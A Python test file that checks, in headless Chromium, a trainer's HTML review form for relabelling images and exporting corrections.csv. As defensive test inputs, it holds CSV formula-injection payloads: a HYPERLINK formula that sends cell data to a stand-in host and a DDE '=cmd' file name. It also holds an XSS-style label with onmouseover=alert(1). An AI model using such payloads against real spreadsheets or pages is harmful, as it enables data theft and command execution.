"""The review form in report.html, driven in a real browser: Debian's chromium through
chromium-driver with Selenium, from file:// with no server. In CI (TRAINER_CI=1) a missing
browser or driver fails the test instead of skipping it."""

from __future__ import annotations

import csv
import io
import json
import shutil
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.conftest import IN_CI, run_module, train_args
from trainer import cells
from trainer.errors import counted

CHROMIUM, DRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")


@pytest.fixture()
def browser(tmp_path):
    """A headless chromium that saves downloads into tmp_path/downloads without asking."""
    missing = [str(path) for path in (CHROMIUM, DRIVER) if not path.is_file()]
    try:
        from selenium import webdriver
        from selenium.webdriver.chrome.service import Service
    except ImportError:
        missing.append("selenium (requirements-dev.txt)")
    if missing:
        if IN_CI:
            pytest.fail(f"{', '.join(missing)} not installed; .ci/run installs chromium and chromium-driver")
        pytest.skip(f"{', '.join(missing)} not here")
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for argument in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"):
        options.add_argument(argument)
    options.add_experimental_option(
        "prefs", {"download.default_directory": str(downloads), "download.prompt_for_download": False}
    )
    driver = webdriver.Chrome(service=Service(str(DRIVER)), options=options)
    driver.downloads = downloads
    yield driver
    driver.quit()


def _waited_for(path: Path, seconds: float = 30) -> Path:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if path.is_file() and path.stat().st_size > 0:
            return path
        time.sleep(0.1)
    raise AssertionError(f"{path} never arrived")


def test_an_inspector_relabels_one_drops_another_downloads_and_trains_with_it(browser, run_dir, tmp_path, cli):
    """The run's report with two of its training images listed by the audit: in the browser,
    relabel the first, drop the second, download corrections.csv; load it back into a fresh page
    (the decisions return); then `train --corrections` on the same data relabels one and drops
    one, and keeps the same test split."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    run = tmp_path / "run"
    shutil.copytree(run_dir, run)
    split = list(csv.DictReader((run / "split.csv").open()))
    chosen = [row for row in split if row["Split"] == "train"][:2]
    with (run / "audit.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ImagePath", "Label", "SuggestedLabel", "Score", "Reason", "Group"])
        other = {"CD": "UD", "UD": "CD"}
        for row in chosen:
            writer.writerow([row["ImagePath"], row["Label"], other[row["Label"]], "0.9100", "label: unlikely", ""])
    assert run_module("report", run).returncode == 0

    browser.get((run / "report.html").as_uri())
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert len(selects) == 2
    relabel_to = other[chosen[0]["Label"]]
    Select(selects[0]).select_by_value(relabel_to)
    Select(selects[1]).select_by_value("drop")
    assert browser.find_element(By.ID, "review-status").text == "1 relabelled, 1 dropped, 0 kept of 2"
    browser.find_element(By.ID, "review-download").click()
    saved = _waited_for(browser.downloads / "corrections.csv")
    decisions = list(cells.read_dicts(saved.open()))
    opinions = [f"label:{other[row['Label']]}" for row in chosen]
    assert [(d["ImagePath"], d["Label"], d["Sha256"], d["Opinion"]) for d in decisions] == [
        (chosen[0]["ImagePath"], relabel_to, chosen[0]["Sha256"], opinions[0]),
        (chosen[1]["ImagePath"], "drop", chosen[1]["Sha256"], opinions[1]),
    ]

    browser.get((run / "report.html").as_uri())  # a later sitting: the decisions load back
    browser.find_element(By.ID, "review-load").send_keys(str(saved))
    deadline = time.monotonic() + 10
    while "loaded" not in browser.find_element(By.ID, "review-status").text and time.monotonic() < deadline:
        time.sleep(0.1)
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert [Select(s).first_selected_option.get_attribute("value") for s in selects] == [relabel_to, "drop"]

    corrected = tmp_path / "corrected"
    images = run_dir.parent / "Images"
    dataset_record = tmp_path / "cracks-record"
    code, _, err = cli(*train_args(images, epochs=1, output=corrected, workspace=tmp_path / "ws", corrections=saved,
                                   record=dataset_record))  # fmt: skip
    assert code == 0, err
    summary = json.loads((corrected / "manifest.json").read_text())["data"]["corrections"]
    assert (summary["relabelled"], summary["dropped"], summary["record"]) == (1, 1, str(dataset_record))
    # The run keeps the decisions it applied; the record holds them for every later run.
    applied = [(d["ImagePath"], d["Label"]) for d in cells.read_dicts((corrected / "corrections.csv").open())]
    assert applied == [(d["ImagePath"], d["Label"]) for d in decisions]
    assert len(list((dataset_record / "decisions").glob("*.csv"))) == 1
    after = {row["ImagePath"]: row for row in csv.DictReader((corrected / "split.csv").open())}
    assert chosen[1]["ImagePath"] not in after
    assert after[chosen[0]["ImagePath"]]["Label"] == relabel_to
    assert {p for p, r in after.items() if r["Split"] == "test"} == {
        r["ImagePath"] for r in split if r["Split"] == "test"
    }
    assert "Review decisions applied" in (corrected / "report.html").read_text()


def test_the_review_cells_save_lands_in_the_record_invoke_train_reads(tmp_path):
    """colab.ipynb's review cell: its save (the kernel side of "Save to Drive") checks the form's
    CSV and adds it to the dataset's record beside the published model, where `invoke train`
    reads it and says so. A CSV --corrections would refuse is refused, nothing written."""
    from tests.conftest import bundle_copy, invoke
    from trainer import record
    from trainer.diagnostics import review

    published = tmp_path / "drive" / "cracks"
    published.mkdir(parents=True)
    folder = record.beside(published)
    assert review.save_to_record(folder, "path,label\nCD/1.jpg,UD\n").startswith("not saved: ")
    assert not folder.exists()
    images = tmp_path / "Images"
    (images / "CD").mkdir(parents=True)
    (images / "UD").mkdir()
    from PIL import Image

    for index in range(3):
        Image.new("RGB", (8, 8), (index * 40, 10, 10)).save(images / "CD" / f"{index}.png")
        Image.new("RGB", (8, 8), (10, index * 40, 10)).save(images / "UD" / f"{index}.png")
    said = review.save_to_record(folder, f"ImagePath,Label\n{images / 'CD' / '1.png'},UD\n")
    assert said.startswith(f"1 decision added to the dataset's record {folder}")
    copy = bundle_copy(tmp_path)
    result = invoke(copy, "train", "--folder", str(images), "--name", "cracks", "--dry-run",
                    env={"INVOKE_PUBLISH_TO": str(published)})  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert f"--record {folder}" in result.stdout


# Labels and file names a spreadsheet would run as formulas, or that need the CSV's quoting.
HOSTILE_LABELS = ['=HYPERLINK("http://x/?"&A2,"click")', "+1+1", "@SUM(2+2)", 'say "hi"', "a, b", "-1", "'quoted"]
HOSTILE_PATHS = ["=cmd|' /C calc'!A0.jpg", "+1+1.jpg", "@SUM(2+2).jpg", "-rf.jpg", "'quoted.jpg",
                 'say "hi", then.jpg', "line\rbreak.jpg", "ünï cødé 裂缝.jpg"]  # fmt: skip


def test_hostile_names_round_trip_between_the_forms_script_and_python(browser, tmp_path):
    """The form's JavaScript writes corrections.csv as trainer/cells.py does: relabelled to
    hostile labels, hostile paths, every decision reads back through parse_corrections as it was
    made and no cell begins a formula; and a file Python wrote (format_corrections) loads back
    into the form as the same decisions."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    from trainer.data.corrections import Correction, format_corrections, parse_corrections
    from trainer.diagnostics import review

    labels = HOSTILE_LABELS
    rows = [{"ImagePath": path, "Label": labels[index % len(labels)], "SuggestedLabel": labels[(index + 1) % len(labels)],
             "Score": "0.9100", "Reason": "label: unlikely", "Group": ""}
            for index, path in enumerate(HOSTILE_PATHS)]  # fmt: skip
    page = tmp_path / "form.html"
    page.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
                    + review.form(rows, labels, {}) + "</body></html>", encoding="utf-8")  # fmt: skip
    chosen = [row["SuggestedLabel"] for row in rows]
    chosen[-1] = "drop"
    browser.get(page.as_uri())
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert len(selects) == len(rows)
    for select, value in zip(selects, chosen, strict=True):
        Select(select).select_by_value(value)
    browser.find_element(By.ID, "review-download").click()
    saved = _waited_for(browser.downloads / "corrections.csv")
    text = saved.read_bytes().decode("utf-8")  # as read_corrections reads it: a carriage return kept
    written = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
    assert not [cell for cell in written if cell.startswith(cells.FORMULA) and not cells.is_number(cell)]
    expected = [(row["ImagePath"], value, review.opinion(row)) for row, value in zip(rows, chosen, strict=True)]
    assert [(c.written, c.label, c.opinion) for c in parse_corrections(text, saved)] == expected

    decisions = [Correction(0, path, label, opinion=opinion) for path, label, opinion in reversed(expected)]
    (tmp_path / "python.csv").write_bytes(format_corrections(decisions).encode("utf-8"))
    browser.get(page.as_uri())
    browser.find_element(By.ID, "review-load").send_keys(str(tmp_path / "python.csv"))
    deadline = time.monotonic() + 10
    while "loaded" not in browser.find_element(By.ID, "review-status").text and time.monotonic() < deadline:
        time.sleep(0.1)
    assert browser.find_element(By.ID, "review-status").text.startswith(f"loaded {counted(len(rows), 'decision')};")
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert [Select(s).first_selected_option.get_attribute("value") for s in selects] == chosen


# The concrete photos' shape of list: most suggestions move CD -> UD (the direction that hides
# cracks), a few UD -> CD; a near-duplicate and an outlier suggest nothing to accept in bulk; a
# third class's photo suggested CD tells a direction by where it comes from as well.
BULK_ROWS = [
    ("CD", "UD", "0.9698", "label"), ("CD", "UD", "0.9082", "label"), ("CD", "UD", "0.8503", "label"),
    ("CD", "UD", "0.7245", "label"), ("CD", "UD", "0.6254", "label"), ("UD", "CD", "0.9100", "label"),
    ("UD", "CD", "0.6500", "label"), ("CD", "UD", "0.9900", "near-duplicate: UD/x.jpg in train"),
    ("UD", "UD", "0.9500", "outlier"), ("CP", "CD", "0.9500", "label"),
]  # fmt: skip
LABELS = ["CD", "UD", "CP"]


def _bulk_rows() -> list[dict]:
    return [{"ImagePath": f"/deck/{index}.jpg", "Label": label, "SuggestedLabel": suggested, "Score": score,
             "Reason": reason, "Group": ""} for index, (label, suggested, score, reason) in enumerate(BULK_ROWS)]  # fmt: skip


class _Inputs(HTMLParser):
    """Each <input>'s attributes, and the page's text."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.inputs, self.text = [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag == "input":
            self.inputs.append(dict(attrs))

    def handle_data(self, data):
        self.text.append(data)

    def directions(self) -> list[tuple[str, str, str]]:
        """(from, to, state): state is 'ticked', 'locked' or ''."""
        return [(box["data-from"], box["data-to"], "ticked" if "checked" in box else "locked" if "disabled" in box else "")
                for box in self.inputs if box.get("class") == "review-direction"]  # fmt: skip


def test_the_forms_bulk_directions_counts_caution_and_guard_in_html(tmp_path):
    """Python's side: a direction per (label, suggestion) pair among the doubted labels, each
    with the photos it would change at 0.8; the caution quotes ACCURACY.md's figure; nothing
    ticked without a recall target; with one, the directions into its class ticked and those out
    of it locked behind an unlock box that says what it risks; names escaped; the run's target
    read from its config.json, and one that does not parse or names no class ignored."""
    from trainer.diagnostics import review

    plain = _Inputs(review.form(_bulk_rows(), LABELS, {}))
    assert plain.directions() == [("CD", "UD", ""), ("UD", "CD", ""), ("CP", "CD", "")]
    text = " ".join(plain.text)
    assert "Caution: accepting suggestions you have not looked at is unsafe." in text
    assert "CD -> UD (5 suggested) 3 would change UD -> CD (2 suggested) 1 would change" in " ".join(
        part.strip() for part in plain.text if part.strip()
    )
    figure = review.UNSEEN + " suggestions were wrong"
    assert figure in (Path(__file__).parents[2] / "ACCURACY.md").read_text().replace("\n", " ")
    assert "review-unlock" not in {box.get("id") for box in plain.inputs}
    assert "no recall target, so no direction is ticked" in text

    guarded = _Inputs(review.form(_bulk_rows(), LABELS, {}, target=("CD", 0.95)))
    assert guarded.directions() == [("CD", "UD", "locked"), ("UD", "CD", "ticked"), ("CP", "CD", "ticked")]
    assert "review-unlock" in {box.get("id") for box in guarded.inputs}
    assert "Its misses are the costly ones: each photo moved out of CD unseen" in " ".join(guarded.text)
    other = _Inputs(review.form(_bulk_rows(), LABELS, {}, target=("UD", 0.9)))
    assert other.directions() == [("CD", "UD", "ticked"), ("UD", "CD", "locked"), ("CP", "CD", "")]

    hostile = ["<b>x</b>", "a'b&\"c"]
    rows = [{**row, "Label": hostile[0], "SuggestedLabel": hostile[1]} for row in _bulk_rows()[:2]]
    page = review.form(rows, hostile, {}, target=(hostile[0], 0.95))
    assert "<b>x</b>" not in page
    assert _Inputs(page).directions() == [(hostile[0], hostile[1], "locked")]
    assert f"{hostile[0]} -> {hostile[1]}" in [part.strip() for part in _Inputs(page).text]

    run = tmp_path / "run"
    run.mkdir()
    assert review.recall_target(run, LABELS) is None
    for written, expected in (("CD=0.95", ("CD", 0.95)), ("CD", None), ("ZZ=0.9", None), (None, None)):
        (run / "config.json").write_text(json.dumps({"target_recall": written}))
        assert review.recall_target(run, LABELS) == expected, written
    (run / "config.json").write_text(json.dumps({"target_recall": "CD=0.95"}))
    assert _Inputs(review.run_form(run, _bulk_rows(), LABELS)).directions()[0] == ("CD", "UD", "locked")


def _page(tmp_path: Path, target=None) -> Path:
    from trainer.diagnostics import review

    page = tmp_path / "form.html"
    page.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
                    + review.form(_bulk_rows(), LABELS, {}, target=target) + "</body></html>", encoding="utf-8")  # fmt: skip
    return page


def _decisions(browser) -> list[str]:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    return [Select(select).first_selected_option.get_attribute("value") for select in selects]


def _bulk(browser) -> dict:
    """Each direction's box (ticked, enabled) and count as shown, and the accept button."""
    from selenium.webdriver.common.by import By

    shown = {}
    for line in browser.find_elements(By.CSS_SELECTOR, "table.review-directions tr"):
        box = line.find_element(By.CSS_SELECTOR, "input.review-direction")
        direction = (box.get_attribute("data-from"), box.get_attribute("data-to"))
        shown[direction] = (box.is_selected(), box.is_enabled(), line.find_element(By.CLASS_NAME, "review-count").text)
    accept = browser.find_element(By.ID, "review-accept")
    shown["accept"] = (accept.is_enabled(), accept.text)
    return shown


def _threshold(browser, value: str) -> None:
    from selenium.webdriver.common.by import By

    field = browser.find_element(By.ID, "review-threshold")
    field.clear()
    field.send_keys(value)


def _box(browser, old: str, new: str):
    from selenium.webdriver.common.by import By

    return next(box for box in browser.find_elements(By.CSS_SELECTOR, "input.review-direction")
                if (box.get_attribute("data-from"), box.get_attribute("data-to")) == (old, new))  # fmt: skip


def test_without_a_recall_target_nothing_is_ticked_and_one_direction_leaves_the_other_alone(browser, tmp_path):
    """In chromium, no recall target: no direction ticked and the accept button off; each
    direction's count shows before anything changes and follows the score and a hand decision;
    accepting UD -> CD relabels just its undecided photos at the score, CD -> UD and CP -> CD stay
    undecided; the downloaded corrections.csv holds exactly those decisions."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    browser.get(_page(tmp_path).as_uri())
    assert _bulk(browser) == {("CD", "UD"): (False, True, "3 would change"), ("UD", "CD"): (False, True, "1 would change"),
                              ("CP", "CD"): (False, True, "1 would change"),
                              "accept": (False, "Accept the ticked directions: 0 photos would change")}  # fmt: skip
    _threshold(browser, "0.6")
    assert [_bulk(browser)[key][2] for key in (("CD", "UD"), ("UD", "CD"))] == ["5 would change", "2 would change"]
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    Select(selects[6]).select_by_value("keep")  # looked at by hand: bulk acceptance leaves it as decided
    assert _bulk(browser)[("UD", "CD")][2] == "1 would change"
    _box(browser, "UD", "CD").click()
    assert _bulk(browser)["accept"] == (True, "Accept the ticked directions: 1 photo would change")
    browser.find_element(By.ID, "review-accept").click()
    assert _decisions(browser) == ["", "", "", "", "", "CD", "keep", "", "", ""]
    assert (
        browser.find_element(By.ID, "review-status").text
        == "accepted 1 UD -> CD; 1 relabelled, 0 dropped, 1 kept of 10"
    )
    assert _bulk(browser)[("CD", "UD")][2] == "5 would change"
    _threshold(browser, "2")
    assert _bulk(browser)[("CD", "UD")][2] == "the score must be from 0 to 1"
    browser.find_element(By.ID, "review-download").click()
    saved = _waited_for(browser.downloads / "corrections.csv")
    assert [(d["ImagePath"], d["Label"], d["Opinion"]) for d in cells.read_dicts(saved.open())] == [
        ("/deck/5.jpg", "CD", "label:CD"), ("/deck/6.jpg", "keep", "label:CD")]  # fmt: skip


def test_with_a_recall_target_nothing_moves_out_of_its_class_without_the_extra_step(browser, tmp_path):
    """In chromium, the form of a run whose config.json has --target-recall CD=0.95 (run_form,
    as the report draws it): UD -> CD and CP -> CD ticked to begin with, CD -> UD locked with its
    count shown; accepting moves only photos into CD, and a CD -> UD box forced on in the page moves nothing while
    the unlock box is clear; after the unlock (which ticks nothing) and a tick, CD -> UD takes its
    photos at the score, the one decided by hand left as it was."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    from trainer.diagnostics import review

    run = tmp_path / "run"
    run.mkdir()
    (run / "config.json").write_text(json.dumps({"backbone": "efficientnet_lite0", "target_recall": "CD=0.95"}))
    page = tmp_path / "report.html"
    page.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
                    + review.run_form(run, _bulk_rows(), LABELS) + "</body></html>", encoding="utf-8")  # fmt: skip
    browser.get(page.as_uri())
    assert _bulk(browser) == {("CD", "UD"): (False, False, "3 would change"), ("UD", "CD"): (True, True, "1 would change"),
                              ("CP", "CD"): (True, True, "1 would change"),
                              "accept": (True, "Accept the ticked directions: 2 photos would change")}  # fmt: skip
    Select(browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")[1]).select_by_value("drop")
    forced = (
        "const box = arguments[0]; box.disabled = false; box.checked = true; box.dispatchEvent(new Event('change'));"
    )
    browser.execute_script(forced, _box(browser, "CD", "UD"))
    browser.find_element(By.ID, "review-accept").click()
    assert _decisions(browser) == ["", "drop", "", "", "", "CD", "", "", "", "CD"]
    browser.find_element(By.ID, "review-unlock").click()
    assert _bulk(browser)[("CD", "UD")] == (False, True, "2 would change")
    _box(browser, "CD", "UD").click()
    assert _bulk(browser)["accept"] == (True, "Accept the ticked directions: 2 photos would change")
    browser.find_element(By.ID, "review-accept").click()
    assert _decisions(browser) == ["UD", "drop", "UD", "", "", "CD", "", "", "", "CD"]
    assert (
        browser.find_element(By.ID, "review-status").text
        == "accepted 2 CD -> UD; 4 relabelled, 1 dropped, 0 kept of 10"
    )


def test_bulk_acceptance_keeps_hostile_class_names_as_they_are(browser, tmp_path):
    """Class names a page or a spreadsheet could misread (quotes, a formula, markup): each
    direction shows them as text, the one out of the recall target's class is locked, and after
    the unlock accepting it sets exactly its photos to the name as it is, the other direction's
    photo left undecided."""
    from selenium.webdriver.common.by import By

    from trainer.diagnostics import review

    guarded, other = '<b onmouseover=alert(1)>"C\'D"</b>', HOSTILE_LABELS[0]
    rows = [{"ImagePath": f"/deck/{index}.jpg", "Label": label, "SuggestedLabel": suggested, "Score": "0.9",
             "Reason": "label", "Group": ""}
            for index, (label, suggested) in enumerate([(guarded, other), (other, guarded), (guarded, other)])]  # fmt: skip
    page = tmp_path / "form.html"
    page.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
                    + review.form(rows, [guarded, other], {}, target=(guarded, 0.95)) + "</body></html>", encoding="utf-8")  # fmt: skip
    browser.get(page.as_uri())
    shown = [line.text for line in browser.find_elements(By.CSS_SELECTOR, "table.review-directions tr")]
    assert shown == [
        f"{guarded} -> {other} (2 suggested) 2 would change",
        f"{other} -> {guarded} (1 suggested) 1 would change",
    ]
    assert _bulk(browser)[(guarded, other)] == (False, False, "2 would change")
    browser.find_element(By.ID, "review-unlock").click()
    _box(browser, guarded, other).click()
    _box(browser, other, guarded).click()  # ticked to begin with: untick it
    browser.find_element(By.ID, "review-accept").click()
    assert _decisions(browser) == [other, "", other]
    assert browser.find_element(By.ID, "review-status").text.startswith(f"accepted 2 {guarded} -> {other}; ")
